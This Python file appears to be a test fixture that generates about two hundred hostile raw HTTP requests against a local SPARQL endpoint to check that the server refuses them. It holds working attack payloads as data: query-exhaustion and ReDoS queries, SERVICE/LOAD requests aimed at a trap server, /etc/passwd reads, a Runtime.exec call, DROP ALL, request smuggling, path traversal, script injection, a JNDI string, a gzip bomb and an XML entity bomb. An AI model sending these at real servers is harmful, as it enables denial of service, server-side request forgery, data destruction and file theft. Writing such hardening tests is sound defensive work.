"""Two hundred requests that should not have been sent, each with its name, as bytes for a socket.

``{trap}`` in a query is the address of a server that no request may reach.
"""

from __future__ import annotations

import gzip
from collections.abc import Iterator
from urllib.parse import quote

HOST = "Host: 127.0.0.1\r\nConnection: close\r\n"


def raw(line: str, headers: str = "", body: bytes = b"") -> bytes:
    return f"{line}\r\n{HOST}{headers}\r\n".encode("latin-1", "replace") + body


def direct(query: str | bytes, kind: str = "application/sparql-query", accept: str = "*/*") -> bytes:
    body = query.encode("utf-8", "surrogatepass") if isinstance(query, str) else query
    headers = f"Content-Type: {kind}\r\nAccept: {accept}\r\nContent-Length: {len(body)}\r\n"
    return raw("POST /sparql HTTP/1.1", headers, body)


def url(query: str, path: str = "/sparql?query=") -> bytes:
    return raw(f"GET {path}{quote(query, safe='')} HTTP/1.1", "Accept: */*\r\n")


def _chain(count: int, sign: str, term: str = "?o") -> str:
    return sign.join([term] * count)


JOIN = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . "
RUNAWAY = [
    f"SELECT (COUNT(*) AS ?n) {{ {JOIN} }}",
    f"SELECT * {{ {JOIN} }} ORDER BY ?a ?d ?g ?j",
    f"SELECT DISTINCT ?a ?d ?g {{ {JOIN} }}",
    f"SELECT ?a (COUNT(?d) AS ?n) {{ {JOIN} }} GROUP BY ?a",
    f"SELECT * {{ {JOIN} FILTER(?a = ?l && ?b != ?k) }}",
    f"SELECT * {{ {JOIN} FILTER(STRLEN(CONCAT(STR(?a), STR(?d), STR(?g))) < 1) }}",
    f"SELECT * {{ {JOIN} FILTER(REGEX(CONCAT(STR(?a), STR(?d)), '^(a+)+$')) }}",
    f"ASK {{ {JOIN} FILTER(?a = 'nothing') }}",
    f"CONSTRUCT {{ ?a ?e ?i }} WHERE {{ {JOIN} FILTER(?a != ?d) FILTER(STR(?i) = 'x') }}",
    "SELECT (COUNT(*) AS ?n) { ?x (<http://e/next>|^<http://e/next>)* ?y . ?y (<http://e/next>|!<http://e/p>)* ?z }",
    "SELECT (COUNT(*) AS ?n) { ?x (<http://e/next>*/<http://e/next>*)* ?y . ?z !(<http://e/q>)* ?y }",
    "SELECT * { ?a ?b ?c OPTIONAL { ?d ?e ?f OPTIONAL { ?g ?h ?i FILTER(?h = ?z) } FILTER(?c = ?zz) } FILTER(?f=1)}",
    "SELECT * { ?a ?b ?c MINUS { ?a ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER(?i > ?f) } }",
    "SELECT * { ?a ?b ?c FILTER NOT EXISTS { ?d ?e ?f . ?g ?h ?i FILTER(?f = ?i && ?c = 'x') } }",
    "SELECT * { { ?a ?b ?c } UNION { ?d ?e ?f } { ?g ?h ?i } UNION { ?j ?k ?l } { ?m ?n ?o } UNION { ?q ?r ?s } "
    "FILTER(?c = ?o && ?z) }",
    "SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?d))) AS ?g) { ?a ?b ?c . ?d ?e ?f . ?h ?i ?j }",
    "SELECT (SUM(?n) AS ?m) { { SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } GROUP BY ?a ?d } }",
    "SELECT * { " + "VALUES ?v0 { 1 2 3 4 5 6 7 8 9 } " + "".join(
        f"VALUES ?v{i} {{ 1 2 3 4 5 6 7 8 9 }} " for i in range(1, 14)) + "FILTER(?v0 + ?v13 = 99) }",
    "SELECT (SHA512(GROUP_CONCAT(STR(?c))) AS ?h) { ?a ?b ?c . ?d ?e ?f . ?g ?h2 ?i }",
    "DESCRIBE ?a ?d ?g ?j { " + JOIN + " }",
]  # fmt: skip
DOUBLING = " ".join(f"BIND(CONCAT(?a{i},?a{i}) AS ?a{i + 1})" for i in range(40))
MEMORY = [
    f"SELECT (STRLEN(?a40) AS ?n) {{ BIND('xxxxxxxxxx' AS ?a0) {DOUBLING} }}",
    f"SELECT ?a40 {{ BIND('xxxxxxxxxx' AS ?a0) {DOUBLING} }}",
    "SELECT (GROUP_CONCAT(?big) AS ?g) { ?a ?b ?c . ?d ?e ?f BIND(CONCAT(STR(?a),STR(?d),STR(?c),STR(?f)) AS ?big) }",
    "SELECT ?a ?d (GROUP_CONCAT(STR(?i)) AS ?g) { ?a ?b ?c . ?d ?e ?f . ?g2 ?h ?i } GROUP BY ?a ?d",
    "SELECT DISTINCT (CONCAT(STR(?a),STR(?d),STR(RAND())) AS ?x) { ?a ?b ?c . ?d ?e ?f }",
    "SELECT (REPLACE(?y, 'x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx') AS ?z) { BIND(REPLACE(?x,'x','"
    + "x" * 5000
    + "') AS ?y) BIND('"
    + "x" * 5000
    + "' AS ?x0) BIND(REPLACE(?x0,'x','"
    + "x" * 5000
    + "') AS ?x) }",
    "CONSTRUCT { ?a ?b [ ?e ?f ] } WHERE { ?a ?b ?c . ?d ?e ?f }",
    "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY RAND()",
    "SELECT (ENCODE_FOR_URI(?a30) AS ?n) { BIND('ééééé' AS ?a0) "
    + DOUBLING[: DOUBLING.find("?a31)") + 5]
    + " }",
    "SELECT * { VALUES ?x { " + "1 " * 900_000 + "} ?a ?b ?c }",
]
BRACKETS = [("{", "}"), ("(", ")"), ("[ <p> ", "]"), ("<<( ", " <p> <o> )>>"), ("!(", ")")]


def _nested(opening: str, closing: str, depth: int) -> str:
    inside = f"{opening * depth}?x{closing * depth}"
    if opening == "{":
        return f"SELECT * {opening * depth} ?s ?p ?o {closing * depth}"
    return f"SELECT * {{ ?s ?p {inside} }}" if opening != "(" else f"SELECT * {{ ?s ?p ?x FILTER({inside}) }}"


CHAINS = [
    "SELECT * { ?s ?p ?o FILTER(" + _chain(n, sign) + ") }"
    for n in (1000, 100_000)
    for sign in (" || ", " && ", " + ", " = ")
] + [
    "SELECT * { ?s " + _chain(n, sign, "<http://e/next>") + " ?o }" for n in (1000, 100_000) for sign in ("/", "|", "/^")
] + [
    "SELECT * { " + _chain(n, word, "{ ?s ?p ?o }") + " }" for n in (1000, 50_000) for word in (" UNION ", " OPTIONAL ")
] + [
    "SELECT * { ?s ?p ?o FILTER(" + sign * 50_000 + "?o) }" for sign in ("!", "-", "+")
] + [
    "SELECT * { " + "?s ?p ?o . " * 20_000 + "}",
    "SELECT " + "?x " * 100_000 + "{ ?s ?p ?x }",
    "PREFIX a: <http://x/> " * 50_000 + "ASK {}",
    "SELECT * { ?s ?p '" + "x" * 3_000_000 + "' }",
    "ASK { ?s ?p " + "9" * 100_000 + " }",
    "SELECT (1" + "e1" * 10 + " AS ?x) {}",
    "SELECT * { ?s ?p ?o } LIMIT " + "9" * 400,
    "SELECT * { ?s ?p ?o } OFFSET 18446744073709551616 LIMIT 18446744073709551615",
]  # fmt: skip
REMOTE = [
    "SELECT * { SERVICE <{trap}> { ?s ?p ?o } }",
    "SELECT * { service <{trap}> { ?s ?p ?o } }",
    "SELECT * { SeRvIcE SILENT <{trap}> { ?s ?p ?o } }",
    "SELECT * { SERVICE#\n<{trap}> { ?s ?p ?o } }",
    "SELECT * { SERVICE<{trap}>{?s ?p ?o} }",
    "PREFIX t: <{trap}> SELECT * { SERVICE t: { ?s ?p ?o } }",
    "PREFIX : <{trap}> SELECT * { SERVICE:{?s ?p ?o} }",
    "PREFIX : <{trap}> SELECT * { SERVICE:a { ?s ?p ?o } }",
    "PREFIX : <{trap}> PREFIX service: <http://x/> SELECT * { SERVICE:a { ?s ?p ?o } }",
    "BASE <{trap}> SELECT * { SERVICE <> { ?s ?p ?o } }",
    "SELECT * { BIND(<{trap}> AS ?u) SERVICE ?u { ?s ?p ?o } }",
    "SELECT * { VALUES ?u { <{trap}> } SERVICE?u{ ?s ?p ?o } }",
    "SELECT * { ?s ?p trueSERVICE<{trap}> { ?a ?b ?c } }",
    "SELECT * { ?s ?p 1SERVICE<{trap}> { ?a ?b ?c } }",
    "SELECT * { ?s ?p 'x'SERVICE<{trap}> { ?a ?b ?c } }",
    "SELECT * { ?s ?p ?o .SERVICE<{trap}> { ?a ?b ?c } }",
    "ASK { FILTER EXISTS { SERVICE <{trap}> { ?s ?p ?o } } }",
    "ASK { FILTER NOT EXISTS { SERVICE SILENT <{trap}> { ?s ?p ?o } } }",
    "SELECT (EXISTS { SERVICE <{trap}> { ?s ?p ?o } } AS ?x) {}",
    "SELECT * { ?s ?p ?o MINUS { SERVICE <{trap}> { ?s ?p ?o } } }",
    "SELECT * { { SELECT * { SERVICE <{trap}> { ?s ?p ?o } } } }",
    "SELECT * { OPTIONAL { GRAPH ?g { SERVICE <{trap}> { ?s ?p ?o } } } }",
    "SELECT * { LATERAL { SERVICE <{trap}> { ?s ?p ?o } } }",
    "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <{trap}> { ?s ?p ?o } }",
    "DESCRIBE ?s { SERVICE <{trap}> { ?s ?p ?o } }",
    "SELECT * { \\u0053ERVICE <{trap}> { ?s ?p ?o } }",
    "SELECT * { \\U00000053ERVICE <{trap}> { ?s ?p ?o } }",
    "SELECT * { ?s ?p \"\\u0022 . SERVICE <{trap}> { ?a ?b ?c } #\" }",
    "SELECT * { ?s ?p '''it's''' . SERVICE <{trap}> { ?a ?b ?c } }",
    "SELECT * { ?s ?p \"\"\"a\"b\"\"\" . SERVICE <{trap}> { ?a ?b ?c } }",
    "SELECT * { ?s ?p <http://x/#> . SERVICE <{trap}> { ?a ?b ?c } }",
    "SELECT * { ?s ex\\#:p ?o . SERVICE <{trap}> { ?a ?b ?c } }",
    "SELECT * { FILTER(1<2) SERVICE <{trap}> { ?a ?b ?c } FILTER(3>2) }",
    "SELECT * FROM <{trap}> { ?s ?p ?o }",
    "SELECT * FROM NAMED <{trap}> { GRAPH ?g { ?s ?p ?o } }",
    "BASE <{trap}> SELECT * FROM <x.ttl> { ?s ?p ?o }",
    "PREFIX t: <{trap}> SELECT * FROM t:x FROM NAMED t:y { ?s ?p ?o }",
    "SELECT * { GRAPH <{trap}> { ?s ?p ?o } }",
    "DEFINE get:soft \"replace\" SELECT * FROM <{trap}> { ?s ?p ?o }",
    "SELECT (bif:http_get('{trap}') AS ?x) {}",
    "SELECT (<bif:http_get>('{trap}') AS ?x) {}",
    "SELECT (sql:file_to_string('/etc/passwd') AS ?x) {}",
    "SELECT (<java:java.lang.Runtime.exec>('id') AS ?x) {}",
    "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
    "SELECT * { SERVICE <jar:file:///x!/y> { ?s ?p ?o } }",
]  # fmt: skip
UPDATES = [
    "LOAD <{trap}>",
    "LOAD <{trap}> INTO GRAPH <http://g>",
    "PREFIX t: <{trap}> LOAD t:x",
    "CREATE GRAPH <http://g> ; COPY DEFAULT TO <http://g>",
    "DELETE WHERE { ?s ?p ?o }",
    "LOAD SILENT <{trap}> INTO GRAPH <http://g>",
    "CLEAR ALL; load <{trap}>",
    "INSERT { ?s ?p ?o } WHERE { SERVICE <{trap}> { ?s ?p ?o } }",
    "DROP ALL",
    "INSERT DATA { <http://s> <http://p> 'hostile' }",
]


def wrong_http() -> Iterator[tuple[str, bytes]]:
    form = "Content-Type: application/x-www-form-urlencoded\r\n"
    yield "binary noise", bytes(range(256)) * 40
    yield "a TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500
    yield "HTTP/0.9", b"GET /sparql\r\n"
    yield "HTTP/9.9", b"GET /sparql HTTP/9.9\r\n\r\n"
    yield "no Host", b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nConnection: close\r\n\r\n"
    yield "two Hosts", raw("GET /sparql?query=ASK%7B%7D HTTP/1.1", "Host: other\r\n")
    for host in ('a b<>"{}|', "[::1", "127.0.0.1:99999", "\xff\xfe", "x" * 5000, "${jndi:ldap://x}"):
        text = f"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        yield f"Host {host[:12]!a}", text.encode("latin-1")
    yield "a long address", raw("GET /sparql?query=" + "a" * 200_000 + " HTTP/1.1")
    yield "a large header", raw("GET /healthz HTTP/1.1", "X-Large: " + "a" * 600_000 + "\r\n")
    yield "many headers", raw("GET /healthz HTTP/1.1", "".join(f"X-{i}: 1\r\n" for i in range(3000)))
    yield "negative length", raw("POST /sparql HTTP/1.1", form + "Content-Length: -1\r\n")
    yield (
        "length that is no number",
        raw("POST /sparql HTTP/1.1", form + "Content-Length: ten\r\n", b"query=ASK{}"),
    )
    yield (
        "length too large",
        raw("POST /sparql HTTP/1.1", form + "Content-Length: 99999999999999\r\n", b"query=ASK{}"),
    )
    smuggled = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"
    yield (
        "length and chunks",
        raw("POST /sparql HTTP/1.1", form + smuggled, b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"),
    )
    yield (
        "bad chunks",
        raw("POST /sparql HTTP/1.1", form + "Transfer-Encoding: chunked\r\n", b"zz\r\nx\r\n0\r\n\r\n"),
    )
    yield (
        "a huge chunk",
        raw("POST /sparql HTTP/1.1", form + "Transfer-Encoding: chunked\r\n", b"ffffffffffffffff\r\nx"),
    )
    yield "header injection", raw("GET /sparql?query=ASK%7B%7D%0d%0aX-Evil:%201 HTTP/1.1")
    yield "zero byte in the address", raw("GET /sparql?query=ASK%7B%00%7D HTTP/1.1")
    yield "bad percent", raw("GET /sparql?query=%ZZ%&%=% HTTP/1.1")
    yield "bad UTF-8 in the address", raw("GET /sparql?query=ASK%7B%FF%FE%7D HTTP/1.1")
    yield "raw bytes in the address", b"GET /sparql?query=ASK{\xff\xfe} HTTP/1.1\r\n" + HOST.encode() + b"\r\n"
    yield "surrogate", raw("GET /sparql?query=ASK%7B%ED%A0%80%7D HTTP/1.1")
    yield "path that climbs", raw("GET /static/../../../../etc/passwd HTTP/1.1")
    yield "path that climbs, encoded", raw("GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1")
    yield "zero byte in the path", raw("GET /id/%00 HTTP/1.1")
    yield "bad UTF-8 in the path", raw("GET /problems/%FF%FE HTTP/1.1")
    yield "script in the path", raw("GET /problems/<script>alert(1)</script> HTTP/1.1")
    yield "a graph that is script", raw("GET /store?graph=javascript:alert(1) HTTP/1.1")
    yield "a graph that is no IRI", raw("GET /store?graph=%3E%20%7B%20%7D HTTP/1.1")
    yield "two graphs", raw("GET /store?graph=http://a&graph=http://b&default HTTP/1.1")
    for method in ("TRACE", "CONNECT", "PROPFIND", "BREW", "PATCH"):
        yield method, raw(f"{method} /sparql HTTP/1.1")
    yield "many parameters", direct("&".join(f"p{i}=1" for i in range(50_000)), form.split()[1])
    yield "many graphs", raw("GET /sparql?query=ASK%7B%7D" + "&default-graph-uri=http://x/" * 900 + " HTTP/1.1")
    yield "too large a query", direct(b"#" * (12 * 2**20))
    yield (
        "gzip bomb",
        raw(
            "POST /sparql HTTP/1.1",
            f"Content-Encoding: gzip\r\nContent-Type: application/sparql-query\r\nContent-Length: {len(BOMB)}\r\n",
            BOMB,
        ),
    )
    yield "UTF-16", direct("ASK {}".encode("utf-16"), "application/sparql-query; charset=UTF-16")
    yield "bad UTF-8", direct(b"ASK { ?s ?p '\xff\xfe' }")
    yield "zero byte", direct("ASK { ?s ?p 'a\0b' }")
    yield "byte order mark", direct("\ufeffASK {}")
    yield "right to left", direct("ASK { \u202e?s ?p ?o \u202c}")
    yield "multipart without boundary", direct(b"--x\r\n", "multipart/form-data")
    yield (
        "Accept without end",
        raw("GET /sparql?query=ASK%7B%7D HTTP/1.1", "Accept: " + "a/b;q=0.1," * 20_000 + "\r\n"),
    )
    yield (
        "Accept with quotes",
        raw("GET /sparql?query=ASK%7B%7D HTTP/1.1", 'Accept: a/b;x="' + "\\" * 5000 + "\r\n"),
    )
    yield (
        "Accept-Encoding nonsense",
        raw("GET /sparql HTTP/1.1", "Accept-Encoding: " + "gzip;q=" * 5000 + "\r\n"),
    )
    yield (
        "If-None-Match nonsense",
        raw("GET /sparql?query=ASK%7B%7D HTTP/1.1", 'If-None-Match: "' + '","' * 9000 + "\r\n"),
    )
    yield "Range", raw("GET /sparql HTTP/1.1", "Range: bytes=0-1,1-2,2-3,-9999999999\r\n")
    yield "entity bomb", raw(
        "PUT /store?graph=http://x/ HTTP/1.1", f"Content-Type: application/rdf+xml\r\nContent-Length: {len(LAUGHS)}\r\n", LAUGHS
    )  # fmt: skip
    yield (
        "Authorization nonsense",
        direct(b"CLEAR ALL", "application/sparql-update\r\nAuthorization: Basic \xff=="),
    )
    yield "X-Forwarded nonsense", raw("GET /readyz HTTP/1.1", "X-Forwarded-For: " + "1.1.1.1," * 5000 + "\r\n")


BOMB = gzip.compress(b"#" * 50_000_000)
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (c, b"&%c;" % (c - 1) * 20) for c in range(98, 110)
) + b"]><x>&m;</x>"  # fmt: skip


def requests(trap: str) -> list[tuple[str, bytes]]:
    """Every hostile request."""

    def aimed(query: str) -> str:
        return query.replace("{trap}", trap)

    found = [(f"runaway {i}", direct(q)) for i, q in enumerate(RUNAWAY)]
    found += [(f"memory {i}", direct(q)) for i, q in enumerate(MEMORY)]
    for opening, closing in BRACKETS:
        for depth in (150, 1000, 3200, 100_000):
            found.append((f"{depth} × {opening}", direct(_nested(opening, closing, depth))))
    found += [(f"chain {i}", direct(q)) for i, q in enumerate(CHAINS)]
    found += [(f"remote {i}", direct(aimed(q))) for i, q in enumerate(REMOTE)]
    found += [("remote parameter", url("ASK {}", f"/sparql?default-graph-uri={trap}&query="))]
    found += [(f"update {i}", direct(aimed(q), "application/sparql-update")) for i, q in enumerate(UPDATES)]
    found += [(f"update by GET {i}", url(aimed(q), "/sparql?update=")) for i, q in enumerate(UPDATES)]
    return found + list(wrong_http())
